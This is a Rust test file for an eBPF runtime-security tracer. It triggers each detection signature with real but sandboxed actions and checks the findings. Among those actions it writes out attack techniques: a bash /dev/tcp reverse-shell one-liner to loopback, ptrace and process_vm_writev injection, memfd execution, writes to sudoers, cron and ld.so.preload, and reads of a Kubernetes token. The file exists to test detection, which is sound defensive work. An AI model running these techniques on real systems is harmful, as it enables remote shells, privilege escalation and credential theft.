//! Detections on real actions: each test performs what a signature detects, for real, under
//! `osprey trace` (default signatures), and asserts exactly one finding of the right signature
//! with the right metadata and trigger. Writes to protected paths happen inside a private mount
//! namespace on a tmpfs, and /proc files are opened without being written, so the host never
//! changes. A benign build produces no finding, and replaying the recording gives the findings
//! the live run gave.
//!
//! Without root the tests skip, unless OSPREY_REQUIRE_BPF=1, which makes that a failure.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;

use clap::Parser;
use serde_json::Value;

mod common;

use common::{bpf_available, Cli, PY};

/// A temporary directory whose path has no hidden component (tempfile's default `.tmp` prefix
/// would make every ELF written in it a hidden executable, TRC-1015).
fn tempdir() -> tempfile::TempDir {
    clean_env();
    tempfile::Builder::new()
        .prefix("osprey-detect-")
        .tempdir()
        .unwrap()
}

/// cargo runs tests with LD_LIBRARY_PATH set, which every traced exec would inherit, and an
/// exec whose environment holds LD_LIBRARY_PATH or LD_PRELOAD is what TRC-107 reports (as
/// Tracee's does). The traced commands run without it. Every test calls this first, before
/// any thread of its own starts a process.
fn clean_env() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        std::env::remove_var("LD_LIBRARY_PATH");
        std::env::remove_var("LD_PRELOAD");
    });
}

/// Runs `cmd` under the tracer (in `dir`'s events.json); returns every written event.
fn trace_in(dir: &Path, extra: &[&str], cmd: &[&str]) -> Vec<Value> {
    let out = dir.join("events.json");
    let out_arg = format!("json:{}", out.display());
    let mut argv = vec!["trace", "-q", "-o", &out_arg, "--buffer-size", "16"];
    argv.extend_from_slice(extra);
    argv.push("--");
    argv.extend_from_slice(cmd);
    let cli = Cli::try_parse_from(argv).unwrap();
    osprey_trace::run_status(cli.trace).unwrap();
    std::fs::read_to_string(&out)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn findings(evs: &[Value]) -> Vec<&Value> {
    evs.iter().filter(|e| e.get("metadata").is_some()).collect()
}

fn sig_id(f: &Value) -> &str {
    f["metadata"]["Properties"]["signatureID"].as_str().unwrap()
}

/// Runs `cmd` and asserts exactly one finding, of `id`, triggered by `trigger`; returns it.
fn one_finding(id: &str, trigger: &str, cmd: &[&str]) -> Value {
    let dir = tempdir();
    one_finding_in(dir.path(), &[], id, trigger, cmd)
}

fn one_finding_in(dir: &Path, extra: &[&str], id: &str, trigger: &str, cmd: &[&str]) -> Value {
    let evs = trace_in(dir, extra, cmd);
    let found = findings(&evs);
    let ids: Vec<&str> = found.iter().map(|f| sig_id(f)).collect();
    assert_eq!(ids, vec![id], "findings of {cmd:?}");
    let f = found[0].clone();
    // built-in signatures: the catalogue's metadata (a user rule's is checked by its test)
    if let Some(sig) = osprey_detect::catalogue()
        .into_iter()
        .find(|s| s.meta.id == id)
    {
        assert_eq!(f["eventName"], sig.meta.name.as_str());
        assert_eq!(f["eventId"], sig.event_id.to_string());
        let props = &f["metadata"]["Properties"];
        assert_eq!(props["Severity"], sig.meta.severity);
        assert_eq!(props["signatureName"], sig.meta.title.as_str());
        assert_eq!(props["external_id"], sig.meta.external_id.as_str());
        assert_eq!(props["Category"], sig.meta.category.as_str());
        assert_eq!(f["metadata"]["Description"], sig.meta.description.as_str());
    }
    let args = f["args"].as_array().unwrap();
    let by = &args.last().unwrap();
    assert_eq!(by["name"], "triggeredBy");
    assert_eq!(by["value"]["name"], trigger, "{f}");
    // the finding carries the trigger's context: its process and time
    let trig = evs
        .iter()
        .find(|e| e["eventName"] == trigger && e["timestamp"] == f["timestamp"]);
    if let Some(t) = trig {
        assert_eq!(t["hostProcessId"], f["hostProcessId"]);
    }
    f
}

fn py(code: &str) -> Vec<String> {
    vec![PY.to_string(), "-c".to_string(), code.to_string()]
}

fn run_py(id: &str, trigger: &str, code: &str) -> Value {
    let argv = py(code);
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    one_finding(id, trigger, &argv)
}

const PTRACE: &str = "import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long] * 4
libc.ptrace.restype = ctypes.c_long
";

#[test]
fn trc102_ptrace_traceme() {
    clean_env();
    if !bpf_available() {
        return;
    }
    run_py(
        "TRC-102",
        "ptrace",
        &format!("{PTRACE}libc.ptrace(0, 0, 0, 0)"),
    );
}

#[test]
fn trc103_ptrace_pokedata_into_another_process() {
    clean_env();
    if !bpf_available() {
        return;
    }
    run_py(
        "TRC-103",
        "ptrace",
        &format!(
            "{PTRACE}buf = ctypes.create_string_buffer(16)
pid = os.fork()
if pid == 0:
    time.sleep(5)
    os._exit(0)
assert libc.ptrace(16, pid, 0, 0) == 0
os.waitpid(pid, 0)
assert libc.ptrace(5, pid, ctypes.addressof(buf), 0x41) == 0
libc.ptrace(17, pid, 0, 0)
os.kill(pid, 9)
os.waitpid(pid, 0)"
        ),
    );
}

#[test]
fn trc104_writable_memory_made_executable() {
    clean_env();
    if !bpf_available() {
        return;
    }
    run_py(
        "TRC-104",
        "mem_prot_alert",
        "import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
addr = libc.mmap(None, 4096, 3, 0x22, -1, 0)
ctypes.memset(addr, 0xc3, 1)
assert libc.mprotect(addr, 4096, 5) == 0",
    );
}

#[test]
fn trc105_exec_from_memfd() {
    clean_env();
    if !bpf_available() {
        return;
    }
    let f = run_py(
        "TRC-105",
        "sched_process_exec",
        "import os
fd = os.memfd_create('payload')
os.write(fd, open('/bin/true', 'rb').read())
os.execv(f'/proc/self/fd/{fd}', ['payload'])",
    );
    let args = f["args"][0]["value"]["args"].as_array().unwrap();
    let path = args.iter().find(|a| a["name"] == "pathname").unwrap();
    assert!(
        path["value"].as_str().unwrap().contains("memfd:payload"),
        "{f}"
    );
}

#[test]
fn trc101_reverse_shell_over_loopback() {
    clean_env();
    if !bpf_available() {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let (mut c, _) = listener.accept().unwrap();
        c.write_all(b"exit\n").unwrap();
        let mut rest = Vec::new();
        let _ = c.read_to_end(&mut rest);
    });
    let script = format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec /bin/sh 0<&3 1>&3 2>&3");
    let f = one_finding("TRC-101", "dup2", &["/bin/bash", "-c", &script]);
    server.join().unwrap();
    let data: Vec<(&str, &Value)> = f["args"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| (a["name"].as_str().unwrap(), &a["value"]))
        .collect();
    assert!(
        data.contains(&("IP address", &Value::from("127.0.0.1"))),
        "{f}"
    );
    assert!(
        data.contains(&("Port", &Value::from(port.to_string()))),
        "{f}"
    );
}

#[test]
fn trc1016_web_server_spawning_a_shell() {
    clean_env();
    if !bpf_available() {
        return;
    }
    let dir = tempdir();
    let nginx = dir.path().join("nginx");
    std::fs::copy("/bin/dash", &nginx).unwrap();
    let f = one_finding(
        "TRC-1016",
        "sched_process_exec",
        &[nginx.to_str().unwrap(), "-c", "/bin/sh -c true"],
    );
    assert_eq!(f["args"][0]["value"], "nginx");
}

#[test]
fn trc1017_kernel_module_load_attempt() {
    clean_env();
    if !bpf_available() {
        return;
    }
    // finit_module on /dev/null: the attempt is the event; the kernel loads nothing
    run_py(
        "TRC-1017",
        "finit_module",
        "import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open('/dev/null', os.O_RDONLY)
assert libc.syscall(313, fd, b'', 0) == -1",
    );
}

#[test]
fn trc1015_elf_dropped_in_a_hidden_directory() {
    clean_env();
    if !bpf_available() {
        return;
    }
    let dir = tempdir();
    std::fs::create_dir(dir.path().join(".cache")).unwrap();
    let target = dir.path().join(".cache/x");
    let code = format!(
        "open({:?}, 'wb').write(open('/bin/true', 'rb').read())",
        target.to_str().unwrap()
    );
    run_py("TRC-1015", "magic_write", &code);
}

/// Runs `script` in a private mount namespace with a tmpfs on /etc (and `mounts`), so that
/// writes to protected paths never reach the host.
fn in_private_etc(id: &str, trigger: &str, mounts: &str, script: &str) {
    let full = format!("mount -t tmpfs none /etc {mounts} && {script}");
    one_finding(
        id,
        trigger,
        &[
            "unshare",
            "-m",
            "--propagation",
            "private",
            "/bin/sh",
            "-c",
            &full,
        ],
    );
}

#[test]
fn writes_to_protected_paths_in_a_private_mount_namespace() {
    clean_env();
    if !bpf_available() {
        return;
    }
    let watched = [
        "/etc/sudoers",
        "/etc/new",
        "/etc/cron.d/job",
        "/etc/ld.so.preload",
        "/etc/rc.local",
        "/etc/release_agent",
        "/etc/notify_on_release",
        "/etc/kubernetes/pki/ca.key",
    ];
    let before: Vec<Option<Vec<u8>>> = watched.iter().map(|p| std::fs::read(p).ok()).collect();
    let loader = std::fs::read("/lib64/ld-linux-x86-64.so.2").ok();
    in_private_etc(
        "TRC-1028",
        "security_file_open",
        "",
        "echo x > /etc/sudoers",
    );
    in_private_etc(
        "TRC-1028",
        "renameat2",
        "",
        ": > /etc/new && mv /etc/new /etc/sudoers",
    );
    in_private_etc(
        "TRC-1027",
        "security_file_open",
        "",
        "mkdir /etc/cron.d && echo x > /etc/cron.d/job",
    );
    in_private_etc(
        "TRC-107",
        "security_file_open",
        "",
        ": > /etc/ld.so.preload",
    );
    in_private_etc(
        "TRC-1026",
        "security_file_open",
        "",
        "echo x > /etc/rc.local",
    );
    in_private_etc(
        "TRC-1010",
        "security_file_open",
        "",
        "echo x > /etc/release_agent",
    );
    in_private_etc(
        "TRC-106",
        "security_file_open",
        "",
        "echo 1 > /etc/notify_on_release",
    );
    in_private_etc(
        "TRC-1012",
        "security_file_open",
        "&& mount -t tmpfs none /lib64",
        ": > /lib64/ld-linux-x86-64.so.2",
    );
    in_private_etc(
        "TRC-1018",
        "security_file_open",
        "",
        ": > /etc/ca.key && mkdir -p /etc/kubernetes/pki && mv /etc/ca.key /etc/kubernetes/pki/ca.key && cat /etc/kubernetes/pki/ca.key",
    );
    // the host saw none of it
    let after: Vec<Option<Vec<u8>>> = watched.iter().map(|p| std::fs::read(p).ok()).collect();
    assert!(before == after, "a write reached the host");
    assert!(std::fs::read("/lib64/ld-linux-x86-64.so.2").ok() == loader);
}

#[test]
fn proc_files_opened_without_changing_anything() {
    clean_env();
    if !bpf_available() {
        return;
    }
    let open = |path: &str, flags: &str| format!("import os\nos.close(os.open({path:?}, {flags}))");
    run_py(
        "TRC-1011",
        "security_file_open",
        &open("/proc/sys/kernel/core_pattern", "os.O_WRONLY"),
    );
    for p in ["/proc/sys/kernel/sysrq", "/proc/sysrq-trigger"] {
        if Path::new(p).exists() {
            run_py("TRC-1031", "security_file_open", &open(p, "os.O_WRONLY"));
        }
    }
    run_py(
        "TRC-109",
        "security_file_open",
        &open("/proc/sys/kernel/randomize_va_space", "os.O_RDONLY"),
    );
    if Path::new("/proc/kcore").exists() {
        run_py(
            "TRC-1021",
            "security_file_open",
            &open("/proc/kcore", "os.O_RDONLY"),
        );
    }
    for p in ["/sys/kernel/debug/sched/debug", "/proc/sched_debug"] {
        if Path::new(p).exists() {
            run_py("TRC-1029", "security_file_open", &open(p, "os.O_RDONLY"));
        }
    }
}

const CHILD: &str = "import ctypes, os, time
buf = ctypes.create_string_buffer(b'A' * 16)
pid = os.fork()
if pid == 0:
    time.sleep(5)
    os._exit(0)
time.sleep(0.2)
";

#[test]
fn another_process_memory() {
    clean_env();
    if !bpf_available() {
        return;
    }
    let kill = "\nos.kill(pid, 9)\nos.waitpid(pid, 0)";
    run_py(
        "TRC-1023",
        "security_file_open",
        &format!("{CHILD}os.close(os.open(f'/proc/{{pid}}/mem', os.O_RDONLY)){kill}"),
    );
    run_py(
        "TRC-1024",
        "security_file_open",
        &format!("{CHILD}os.close(os.open(f'/proc/{{pid}}/mem', os.O_WRONLY)){kill}"),
    );
    let f = run_py(
        "TRC-1025",
        "process_vm_writev",
        &format!(
            "{CHILD}class Iov(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
src = ctypes.create_string_buffer(b'B' * 16)
local = Iov(ctypes.addressof(src), 16)
remote = Iov(ctypes.addressof(buf), 16)
libc = ctypes.CDLL(None, use_errno=True)
assert libc.syscall(311, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 16{kill}"
        ),
    );
    assert!(f["args"][0]["value"].as_i64().unwrap() > 0);
}

#[test]
fn trc108_and_trc1013_kubernetes_credentials_and_api() {
    clean_env();
    if !bpf_available() {
        return;
    }
    let dir = tempdir();
    let sa = dir.path().join("run/secrets/kubernetes.io/serviceaccount");
    std::fs::create_dir_all(&sa).unwrap();
    std::fs::write(sa.join("token"), "t").unwrap();
    one_finding(
        "TRC-108",
        "security_file_open",
        &["/bin/cat", sa.join("token").to_str().unwrap()],
    );

    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let _ = listener.accept().unwrap();
    });
    let code = format!("import socket\nsocket.create_connection(('127.0.0.1', {port})).close()");
    one_finding(
        "TRC-1013",
        "security_socket_connect",
        &["env", "KUBERNETES_SERVICE_HOST=127.0.0.1", PY, "-c", &code],
    );
    server.join().unwrap();
}

const SEQUENCE: &str = r#"
[[rule]]
id = "OSP-100"
name = "write_then_exec"
title = "A file written then executed by the same process"
severity = 3
category = "execution"
events = ["magic_write", "sched_process_exec"]
filter = 'tracee.eventName == "magic_write"'
then = 'tracee.eventName == "sched_process_exec"'
within = "10s"
same = [["tracee.args.magic_write.pathname", "tracee.args.sched_process_exec.pathname"]]
"#;

/// The findings a replay of the recorded (non-finding) events gives, as JSON.
fn replay(evs: &[Value], config: &osprey_detect::Config) -> Vec<Value> {
    let mut d = osprey_detect::Detector::new(config).unwrap();
    let mut out = Vec::new();
    for e in evs.iter().filter(|e| e.get("metadata").is_none()) {
        let line = serde_json::to_vec(e).unwrap();
        let ev = osprey_event::parse_event(&line).unwrap();
        for f in d.on_event(&ev) {
            let mut json = Vec::new();
            f.write_legacy_json(&mut json);
            out.push(serde_json::from_slice(&json).unwrap());
        }
    }
    out
}

#[test]
fn user_rule_write_then_exec_of_the_same_file_and_replay_equals_live() {
    clean_env();
    if !bpf_available() {
        return;
    }
    let dir = tempdir();
    let rules = dir.path().join("rules.toml");
    std::fs::write(&rules, SEQUENCE).unwrap();
    let dropped = dir.path().join("dropped");
    let code = format!(
        "import os\np = {:?}\nopen(p, 'wb').write(open('/bin/true', 'rb').read())\nos.chmod(p, 0o755)\nos.execv(p, [p])",
        dropped.to_str().unwrap()
    );
    let rules_arg = rules.to_str().unwrap().to_string();
    let f = one_finding_in(
        dir.path(),
        &["-R", &rules_arg, "--signatures", "OSP-100"],
        "OSP-100",
        "sched_process_exec",
        &[PY, "-c", &code],
    );
    assert_eq!(f["eventId"], "6100");
    assert_eq!(f["eventName"], "write_then_exec");
    assert_eq!(
        f["metadata"]["Properties"]["signatureName"],
        "A file written then executed by the same process"
    );
    assert_eq!(f["metadata"]["Properties"]["Severity"], 3);
    // magic_write and sched_process_exec are default events: the recording holds both steps
    let evs: Vec<Value> = std::fs::read_to_string(dir.path().join("events.json"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let config = osprey_detect::Config::load(Some("OSP-100"), &[rules]).unwrap();
    assert_eq!(replay(&evs, &config), vec![f]);
}

#[test]
fn replay_of_the_recording_gives_the_live_findings() {
    clean_env();
    if !bpf_available() {
        return;
    }
    // every event the signatures read is written, so the recording holds what the live
    // detector saw
    let d = osprey_detect::Detector::new(&osprey_detect::Config::default()).unwrap();
    let cat = osprey_trace::catalog::catalog();
    let mut events: Vec<String> = d
        .events()
        .iter()
        .filter(|e| cat.get(e).is_some())
        .cloned()
        .collect();
    events.push("default".into());
    let events = events.join(",");
    let dir = tempdir();
    let script = format!(
        "{PTRACE}libc.ptrace(0, 0, 0, 0)
os.close(os.open('/proc/sys/kernel/randomize_va_space', os.O_RDONLY))
if os.fork() == 0:
    fd = os.memfd_create('p')
    os.write(fd, open('/bin/true', 'rb').read())
    os.execv(f'/proc/self/fd/{{fd}}', ['p'])
os.wait()"
    );
    let evs = trace_in(dir.path(), &["-e", &events], &[PY, "-c", &script]);
    let live: Vec<Value> = findings(&evs).into_iter().cloned().collect();
    let ids: Vec<&str> = live.iter().map(sig_id).collect();
    assert_eq!(ids, vec!["TRC-102", "TRC-109", "TRC-105"]);
    assert_eq!(replay(&evs, &osprey_detect::Config::default()), live);
}

#[test]
fn a_benign_build_and_install_gives_no_finding() {
    clean_env();
    if !bpf_available() {
        return;
    }
    let dir = tempdir();
    std::fs::write(
        dir.path().join("hello.c"),
        "#include <stdio.h>\nint main(void) { puts(\"hi\"); return 0; }\n",
    )
    .unwrap();
    let script = format!(
        "cd {} && cc -O1 -o hello hello.c && mkdir -p prefix/bin prefix/lib && install -m 755 hello prefix/bin/hello && cp hello.c prefix/lib/ && ./prefix/bin/hello && rm -rf prefix",
        dir.path().display()
    );
    let evs = trace_in(dir.path(), &[], &["/bin/sh", "-c", &script]);
    assert!(evs.iter().any(|e| e["eventName"] == "sched_process_exec"));
    let found: Vec<&str> = findings(&evs).into_iter().map(sig_id).collect();
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn events_enabled_for_the_signatures_are_not_written_unless_selected() {
    clean_env();
    if !bpf_available() {
        return;
    }
    let dir = tempdir();
    let code = format!("{PTRACE}libc.ptrace(0, 0, 0, 0)");
    let evs = trace_in(dir.path(), &["-e", "execve"], &[PY, "-c", &code]);
    let names: Vec<&str> = evs
        .iter()
        .map(|e| e["eventName"].as_str().unwrap())
        .collect();
    assert!(names.contains(&"execve"), "{names:?}");
    assert!(!names.contains(&"ptrace"), "{names:?}");
    let found: Vec<&str> = findings(&evs).into_iter().map(sig_id).collect();
    assert_eq!(found, vec!["TRC-102"]);
    // and with --signatures none, nothing is added
    let evs = trace_in(
        dir.path(),
        &["-e", "execve", "--signatures", "none"],
        &[PY, "-c", &code],
    );
    assert!(findings(&evs).is_empty());
    assert!(evs.iter().all(|e| e["eventName"] == "execve"));
}

/// Runs `script` in a cgroup named like a Docker container's (`docker/<64 hex digits>` on the
/// cgroup v2 hierarchy), so its events carry that container ID, as a container's would; the
/// cgroup is removed afterwards. `None` when there is no writable cgroup v2 hierarchy.
fn in_container_cgroup(id: &str, trigger: &str, script: &str) -> Option<Value> {
    let root = ["/sys/fs/cgroup/unified", "/sys/fs/cgroup"]
        .into_iter()
        .find(|r| Path::new(r).join("cgroup.procs").exists())?;
    static NEXT: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(1);
    let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    let name = format!("{:016x}{n:048x}", std::process::id());
    let cg = Path::new(root).join("docker").join(&name);
    std::fs::create_dir_all(&cg).ok()?;
    let full = format!("echo $$ > {}/cgroup.procs && {script}", cg.display());
    let f = one_finding(id, trigger, &["/bin/sh", "-c", &full]);
    let _ = std::fs::remove_dir(&cg);
    // the parent too, when this left it empty (never a runtime's own: that is not empty)
    let _ = std::fs::remove_dir(cg.parent().unwrap());
    assert_eq!(f["container"]["id"], name.as_str(), "{f}");
    Some(f)
}

#[test]
fn container_signatures_in_a_container_cgroup() {
    clean_env();
    if !bpf_available() {
        return;
    }
    let dir = tempdir();
    let elf = dir.path().join("dropped");
    let sock = dir.path().join("docker.sock");
    let mnt = dir.path().join("mnt");
    std::fs::create_dir(&mnt).unwrap();
    let ran = [
        in_container_cgroup(
            "TRC-1022",
            "magic_write",
            &format!(
                "exec {PY} -c \"open('{}', 'wb').write(open('/bin/true', 'rb').read())\"",
                elf.display()
            ),
        ),
        in_container_cgroup(
            "TRC-1019",
            "security_file_open",
            &format!(
                "exec {PY} -c \"import os; os.close(os.open('{}', os.O_WRONLY | os.O_CREAT))\"",
                sock.display()
            ),
        ),
        // tmpfs takes any source name: a /dev path, mounted in a private mount namespace
        in_container_cgroup(
            "TRC-1014",
            "security_sb_mount",
            &format!(
                "exec unshare -m --propagation private mount -t tmpfs /dev/osprey-test {}",
                mnt.display()
            ),
        ),
    ];
    if ran.iter().any(Option::is_none) {
        eprintln!("skipping: no writable cgroup v2 hierarchy");
    }
}
